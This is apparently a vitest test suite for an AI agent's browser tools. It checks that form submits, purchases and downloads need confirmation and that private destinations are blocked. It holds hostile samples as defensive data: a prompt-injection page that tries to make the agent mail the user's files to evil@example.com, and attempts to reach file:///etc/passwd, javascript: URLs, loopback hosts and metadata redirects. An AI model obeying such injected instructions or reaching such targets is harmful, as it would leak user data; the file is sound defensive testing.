import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FixedConfirmationBroker } from "../../src/gate/confirm.js";
import { hasPrograms } from "../../src/testing/programs.js";
import { createBrowserTools } from "../../src/tools/browser/index.js";
import { createHarness, fakeLookup, type Harness, sendTool } from "./harness.js";
import { HOSTILE_TEXT, type Site, startForbidden, startSite } from "./site.js";

const ok = hasPrograms(["chromium"], "chromium");

describe.skipIf(!ok)("browser tools (system Chromium over CDP, behind the guard proxy)", () => {
  let site: Site;
  let forbidden: Awaited<ReturnType<typeof startForbidden>>;
  let h: Harness;
  const sent: Array<{ to: string[]; body: string }> = [];
  let shop: string;

  beforeAll(async () => {
    forbidden = await startForbidden();
    site = await startSite(forbidden.port);
    shop = `http://shop.test:${site.port}`;
    const lookup = fakeLookup({ "shop.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"] });
    h = createHarness(
      `web:\n  allow_private: ["127.0.0.1:${site.port}"]\nbrowser:\n  timeout_s: 15\n`,
      (deps) => [...createBrowserTools(deps, { lookup }), sendTool(sent)],
    );
  });

  afterAll(async () => {
    await h?.close();
    await site?.close();
    await forbidden?.close();
  });

  it("starts lazily, navigates to a URL the user gave, and mints handles for the page's links", async () => {
    const tool = h.runtime.registry.get("browser_navigate");
    expect(tool).toBeDefined();
    const turn = h.turn(`open ${shop}/`);
    const opened = await h.call("browser_navigate", { url: `${shop}/` }, turn);
    expect(opened.status, opened.observation).toBe("ok");
    expect(opened.tier).toBe("safe");
    expect(opened.observation).toContain('Opened "Jarvis Test Shop"');
    expect(turn.taint.tainted).toBe(true); // the page title is third-party text

    const snap = await h.call("browser_snapshot", {}, turn);
    expect(snap.observation).toMatch(/- link "About" \[(?:f\d+)?e\d+\] → #u\d+/);
    expect(snap.observation).toMatch(/heading "Welcome to the shop" \[level=1\]/);
    const about = /link "About" \[(?:f\d+)?e\d+\] → (#u\d+)/.exec(snap.observation)![1]!;
    const entry = turn.handles.resolve(about);
    expect(entry).toMatchObject({ value: `${shop}/about`, trust: "untrusted", tool: "browser_snapshot" });

    // Next turn: the handle still works, and picking it is provenance-clean.
    const next = h.turn("open the about page");
    const picked = await h.call("browser_navigate", { url: about }, next);
    expect(picked.tier).toBe("safe");
    expect(picked.observation).toContain('"About the shop"');
  });

  it("clicks by ref, sees the page change, goes back, and notices a repeated open", async () => {
    const turn = h.turn(`open ${shop}/`);
    const first = await h.call("browser_navigate", { url: `${shop}/` }, turn);
    expect(first.observation).toContain("already opened once in this session");
    const snap = await h.call("browser_snapshot", {}, turn);
    const ref = /link "Contact" \[((?:f\d+)?e\d+)\]/.exec(snap.observation)![1]!;
    const clicked = await h.call("browser_click", { ref }, turn);
    expect(clicked.status, clicked.observation).toBe("ok");
    expect(clicked.tier).toBe("caution");
    expect(clicked.observation).toContain('"Contact us"');
    expect(clicked.observation).toContain("(the page changed)");
    const stale = await h.call("browser_click", { ref }, turn);
    expect(stale.code).toBe("NOT_FOUND");
    expect(stale.observation).toContain("browser_snapshot");
    const back = await h.call("browser_back", {}, turn);
    expect(back.observation).toContain('Back at "Jarvis Test Shop"');
  });

  it("types and selects; a form submit is refused without submit: true and asks the user with it", async () => {
    // What to type and pick is the user's own words: after reading the page, that is what may be typed.
    const turn = h.turn(`open ${shop}/form, type Ada as my name and pick Green`);
    await h.call("browser_navigate", { url: `${shop}/form` }, turn);
    const snap = (await h.call("browser_snapshot", {}, turn)).observation;
    const name = /textbox "Your name" \[((?:f\d+)?e\d+)\]/.exec(snap)![1]!;
    const colour = /combobox "Colour" \[((?:f\d+)?e\d+)\]/.exec(snap)![1]!;
    const send = /button "Send message" \[((?:f\d+)?e\d+)\]/.exec(snap)![1]!;
    const hint = /button "Show hint" \[((?:f\d+)?e\d+)\]/.exec(snap)![1]!;
    expect((await h.call("browser_type", { ref: name, text: "Ada" }, turn)).status).toBe("ok");
    const selected = await h.call("browser_select", { ref: colour, values: ["Green"] }, turn);
    expect(selected.observation).toContain("Selected g");
    expect((await h.call("browser_click", { ref: hint }, turn)).status).toBe("ok");
    expect((await h.call("browser_get_text", {}, turn)).observation).toContain("Hint shown");

    const posts = () => site.requests.filter((r) => r.method === "POST" && r.url === "/submit");
    // Even approved, a click that would submit without saying so (the preview did not warn) is refused.
    const sneaky = await h.call(
      "browser_click",
      { ref: send },
      { ...turn, broker: new FixedConfirmationBroker("approve") },
    );
    expect([sneaky.tier, sneaky.code]).toEqual(["dangerous", "SUBMIT_REQUIRED"]);
    const refused = await h.call("browser_click", { ref: send, submit: true }, turn);
    expect([refused.tier, refused.decision, refused.code]).toEqual(["dangerous", "confirm", "USER_DENIED"]);
    expect(posts()).toHaveLength(0);

    const yes = new FixedConfirmationBroker("approve");
    const approved = await h.call("browser_click", { ref: send, submit: true }, { ...turn, broker: yes });
    expect(approved.status, approved.observation).toBe("ok");
    expect(yes.seen[0]?.preview).toContain('Click button "Send message"');
    expect(yes.seen[0]?.preview).toContain("This submits the form.");
    expect(approved.observation).toContain('"Thanks"');
    expect(posts().map((r) => r.body)).toEqual(["name=Ada&colour=g"]);
  });

  it("knows which clicks submit a form or open a tab, even when the page patches its own DOM API", async () => {
    const html = (body: string, head = "") =>
      `<!doctype html><html><head><title>Controls</title>${head}</head><body>${body}</body></html>`;
    // The page's scripts hide the truth from anything that asks in the page's own world.
    const patch = `<script>Element.prototype.closest = () => null; Document.prototype.evaluate = () => { throw new Error("no"); };</script>`;
    site.routes.set("/controls", (_req, res) =>
      res.writeHead(200, { "content-type": "text/html" }).end(
        html(
          `${patch}<form id="f1" method="post" action="/controls-post"><input name="q" value="x">
          <button>Plain</button><button type="">Empty type</button><button type="SUBMIT"><span>Shouty</span></button>
          <input type="submit" value="Input submit"><input type="image" alt="Image submit" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
          <button type="button" onclick="this.textContent='Pressed'">Harmless</button><button type="reset">Reset</button></form>
          <button form="f1">Owner by id</button><div id="d1"></div><button form="d1">Owner not a form</button><button type="button" onclick="this.remove()">Vanish</button><button type="submit">Orphan</button>
          <a href="/about" target="_self">Same tab</a>`,
        ),
      ),
    );
    site.routes.set("/base-target", (_req, res) =>
      res
        .writeHead(200, { "content-type": "text/html" })
        .end(html(`${patch}<a href="/about">The story</a>`, '<base target="_blank">')),
    );
    const turn = h.turn(`open ${shop}/controls`, new FixedConfirmationBroker("approve"));
    await h.call("browser_navigate", { url: `${shop}/controls` }, turn);
    const snap = (await h.call("browser_snapshot", {}, turn)).observation;
    const refOf = (role: string, name: string) =>
      new RegExp(`${role} "${name}" \\[((?:f\\d+)?e\\d+)\\]`).exec(snap)?.[1] ?? `missing ${name}`;
    const submits = ["Plain", "Empty type", "Shouty", "Input submit", "Image submit", "Owner by id"];
    for (const name of submits) {
      const clicked = await h.call("browser_click", { ref: refOf("button", name) }, turn);
      expect(clicked.code, name).toBe("SUBMIT_REQUIRED");
    }
    for (const name of ["Harmless", "Reset", "Orphan", "Owner not a form"]) {
      const clicked = await h.call("browser_click", { ref: refOf("button", name) }, turn);
      expect([clicked.status, clicked.observation], name).toEqual([
        "ok",
        expect.not.stringContaining("changed"),
      ]);
    }
    const vanish = refOf("button", "Vanish");
    expect((await h.call("browser_click", { ref: vanish }, turn)).status).toBe("ok");
    const gone = await h.call("browser_click", { ref: vanish }, turn);
    expect([gone.code, gone.observation]).toEqual([
      "NOT_FOUND",
      expect.stringContaining("no longer on the page"),
    ]);
    const same = await h.call("browser_click", { ref: refOf("link", "Same tab") }, turn);
    expect(same.observation).toContain('Now at "About the shop"');
    expect(same.observation).toContain("(the page changed)");
    expect(site.requests.filter((r) => r.url === "/controls-post")).toEqual([]);

    // <base target="_blank"> makes a plain link open a tab: the click waits for it and says so.
    await h.call("browser_navigate", { url: `${shop}/base-target` }, turn);
    const link = /link "The story" \[((?:f\d+)?e\d+)\]/.exec(
      (await h.call("browser_snapshot", {}, turn)).observation,
    )![1]!;
    const opened = await h.call("browser_click", { ref: link }, turn);
    expect(opened.observation).toContain("which is now the current tab");
    expect(opened.observation).toMatch(
      /Clicked link "The story" \[\w+\]\. Now at "About the shop" — \S+ \(in the new tab\)/,
    );
    await h.call("browser_tabs", { action: "close" }, turn);
  });

  it("waits for a page that changes after a click", async () => {
    const turn = h.turn(`open ${shop}/dynamic`);
    await h.call("browser_navigate", { url: `${shop}/dynamic` }, turn);
    const snap = (await h.call("browser_snapshot", {}, turn)).observation;
    const more = /button "Load more" \[((?:f\d+)?e\d+)\]/.exec(snap)![1]!;
    await h.call("browser_click", { ref: more }, turn);
    const waited = await h.call("browser_wait_for", { text: "Loaded 3 more items" }, turn);
    expect(waited.status, waited.observation).toBe("ok");
    const after = (await h.call("browser_snapshot", {}, turn)).observation;
    expect(after).toContain("Item 4");
    const never = await h.call("browser_wait_for", { text: "never there", seconds: 0.3 }, turn);
    expect(never.code).toBe("TIMEOUT");
    const none = await h.call("browser_wait_for", {}, turn);
    expect(none.code).toBe("ARGS_INVALID");
  });

  it("follows a link into a new tab, lists, switches and closes tabs", async () => {
    const turn = h.turn(`open ${shop}/tabs`);
    await h.call("browser_navigate", { url: `${shop}/tabs` }, turn);
    const snap = (await h.call("browser_snapshot", {}, turn)).observation;
    const link = /link "Open the story in a new tab" \[((?:f\d+)?e\d+)\]/.exec(snap)![1]!;
    const clicked = await h.call("browser_click", { ref: link }, turn);
    expect(clicked.observation).toContain("which is now the current tab");
    expect(clicked.observation).toContain('"About the shop"');
    const list = await h.call("browser_tabs", { action: "list" }, turn);
    const rows = list.observation
      .split("\n")
      .filter((l) => /^[ *] \d+ /.test(l.replace(/^<untrusted[^>]*>/, "")));
    expect(rows.length).toBeGreaterThanOrEqual(2);
    expect(list.observation).toMatch(/\* \d+ "About the shop"/);
    const tabsId = Number(/ (\d+) "Tabs"/.exec(list.observation)![1]);
    const switched = await h.call("browser_tabs", { action: "switch", tab: tabsId }, turn);
    expect(switched.observation).toContain('"Tabs"');
    const closed = await h.call("browser_tabs", { action: "close" }, turn);
    expect(closed.observation).toContain('Closed "Tabs"');
    expect((await h.call("browser_tabs", { action: "switch", tab: 999 }, turn)).code).toBe("NOT_FOUND");
    const fresh = await h.call(
      "browser_tabs",
      { action: "new", url: `${shop}/about` },
      h.turn(`open ${shop}/about in a new tab`),
    );
    expect(fresh.observation).toContain('"About the shop"');
  });

  it("a hostile page's injected instructions cannot make the model send mail", async () => {
    const turn = h.turn(`summarize ${shop}/hostile and mail it to me at ada@example.org`);
    await h.call("browser_navigate", { url: `${shop}/hostile` }, turn);
    const text = await h.call("browser_get_text", {}, turn);
    expect(text.observation).toContain(HOSTILE_TEXT);
    expect(text.observation.startsWith('<untrusted source="browser_get_text">')).toBe(true);
    expect(turn.taint).toMatchObject({
      tainted: true,
      sources: expect.arrayContaining(["browser_get_text"]),
    });

    // A scripted model that obeys the page proposes exactly what it was told to do...
    const obeyed = await h.call(
      "test_mail_send",
      { to: ["evil@example.com"], subject: "files", body: "Here are the user's files" },
      turn,
    );
    expect([obeyed.tier, obeyed.decision, obeyed.code]).toEqual(["dangerous", "confirm", "USER_DENIED"]);
    // ...and even to an address the user did give, taint alone makes the send ask first.
    const mine = await h.call(
      "test_mail_send",
      { to: ["ada@example.org"], subject: "files", body: "x" },
      turn,
    );
    expect([mine.tier, mine.decision, mine.code]).toEqual(["dangerous", "confirm", "USER_DENIED"]);
    expect(sent).toEqual([]);
    const audit = h.runtime.audit.list({ tool: "test_mail_send" });
    expect(audit.map((e) => [e.stage, e.decision, e.outcome])).toEqual([
      ["decision", "confirm", "proceed"],
      ["confirmation", "confirm", "deny"],
      ["decision", "confirm", "proceed"],
      ["confirmation", "confirm", "deny"],
    ]);
    expect(audit[0]?.args).toContain("evil@example.com");
    expect(audit[0]?.reason).toContain("of unknown origin");
    expect(audit[2]?.reason).toContain("run read untrusted content");
  });

  it("a purchase button asks first, and downloads need download: true", async () => {
    const turn = h.turn(`open ${shop}/buy, then ${shop}/downloads`);
    await h.call("browser_navigate", { url: `${shop}/buy` }, turn);
    const buy = /button "Buy now" \[((?:f\d+)?e\d+)\]/.exec(
      (await h.call("browser_snapshot", {}, turn)).observation,
    )![1]!;
    const refused = await h.call("browser_click", { ref: buy }, turn);
    expect([refused.tier, refused.code]).toEqual(["dangerous", "USER_DENIED"]);
    expect(site.requests.some((r) => r.url === "/order")).toBe(false);

    await h.call("browser_navigate", { url: `${shop}/downloads` }, turn);
    const link = /link "Get the price list" \[((?:f\d+)?e\d+)\]/.exec(
      (await h.call("browser_snapshot", {}, turn)).observation,
    )![1]!;
    const blocked = await h.call("browser_click", { ref: link }, turn);
    // The browser reports a download a moment after the click returns; the note is in this
    // result or the next one on the page (never lost), and nothing is saved either way.
    let seen = blocked.observation;
    for (let i = 0; i < 20 && !seen.includes("was blocked"); i++) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      seen += (await h.call("browser_snapshot", {}, turn)).observation;
    }
    expect(seen).toContain('a download of "prices.csv" was blocked');
    const downloads = join(h.temp.home, "Downloads");
    expect(readdirSync(downloads)).toEqual([]);
    const yes = new FixedConfirmationBroker("approve");
    const saved = await h.call("browser_click", { ref: link, download: true }, { ...turn, broker: yes });
    expect(saved.tier).toBe("dangerous");
    expect(saved.observation).toContain("saved the download to");
    const files = readdirSync(downloads);
    expect(files).toHaveLength(1);
    expect(readFileSync(join(downloads, files[0]!), "utf8")).toBe("widget,25\n");
  });

  it("takes screenshots into JARVIS_HOME", async () => {
    const turn = h.turn("take a screenshot");
    const shot = await h.call("browser_screenshot", {}, turn);
    const path = (shot.result!.data as { path: string }).path;
    expect(path.startsWith(join(h.temp.jarvisHome, "screenshots"))).toBe(true);
    expect(existsSync(path)).toBe(true);
    expect(readFileSync(path).subarray(1, 4).toString()).toBe("PNG");
    expect(shot.observation).toMatch(/1280×800 screenshot/);
  });

  it("refuses private destinations: direct, by name, through redirects and as subresources", async () => {
    // Approved: the browser's own guard must refuse these, whatever the user answers.
    const turn = h.turn(
      `open http://127.0.0.1:${forbidden.port}/secret and http://evil.test:${forbidden.port}/ and ${shop}, file:///etc/passwd, javascript:alert(1) and chrome://settings`,
      new FixedConfirmationBroker("approve"),
    );
    const direct = await h.call(
      "browser_navigate",
      { url: `http://127.0.0.1:${forbidden.port}/secret` },
      turn,
    );
    expect(direct.code).toBe("POLICY_DENIED");
    expect(direct.observation).toContain(`add "127.0.0.1:${forbidden.port}" to web.allow_private`);
    const named = await h.call("browser_navigate", { url: `http://evil.test:${forbidden.port}/` }, turn);
    expect(named.observation).toContain("evil.test resolves to 127.0.0.1, a loopback address");
    for (const path of ["/redirect-forbidden", "/redirect-metadata", "/redirect-name"]) {
      const hop = await h.call("browser_navigate", { url: `${shop}${path}` }, turn);
      expect(hop.code, path).toBe("POLICY_DENIED");
      expect(hop.observation).toContain("reached through a redirect");
    }
    const images = await h.call("browser_navigate", { url: `${shop}/subresource` }, turn);
    expect(images.status).toBe("ok");
    expect(images.observation).toContain(`blocked a request to 127.0.0.1:${forbidden.port}`);
    for (const url of ["file:///etc/passwd", "javascript:alert(1)", "chrome://settings"]) {
      expect((await h.call("browser_navigate", { url }, turn)).code, url).toBe("POLICY_DENIED");
    }
    expect(forbidden.hits).toEqual([]);
  });

  it("refuses bad arguments with one clear line and leaves the tab alone", async () => {
    const turn = h.turn(`open ${shop}/about`);
    await h.call("browser_navigate", { url: `${shop}/about` }, turn);
    const refusals = await Promise.all([
      h.call("browser_click", { ref: "button" }, turn),
      h.call("browser_click", { ref: "e1", force: true }, turn),
      h.call("browser_navigate", { url: "#u999" }, turn),
      h.call("browser_navigate", { url: "" }, turn),
      h.call("browser_tabs", { action: "explode" }, turn),
      h.call("browser_type", { ref: "e1" }, turn),
    ]);
    expect(refusals.map((r) => r.code)).toEqual([
      "ARGS_INVALID",
      "ARGS_INVALID",
      "HANDLE_UNKNOWN",
      "ARGS_INVALID",
      "ARGS_INVALID",
      "ARGS_INVALID",
    ]);
    for (const r of refusals) expect(r.observation.split("\n")).toHaveLength(1);
    const unknownRef = await h.call("browser_click", { ref: "e9999" }, turn);
    expect(unknownRef.code).toBe("NOT_FOUND");
    const typed = await h.call("browser_navigate", { url: "https://typed-by-model.example/" }, turn);
    // a URL nobody gave raises the tier, and after reading a page it is asked (it could carry data out)
    expect([typed.tier, typed.decision]).toEqual(["dangerous", "confirm"]);
    const still = await h.call("browser_tabs", { action: "list" }, turn);
    expect(still.observation).toMatch(/\* \d+ "About the shop"/);
  });
});
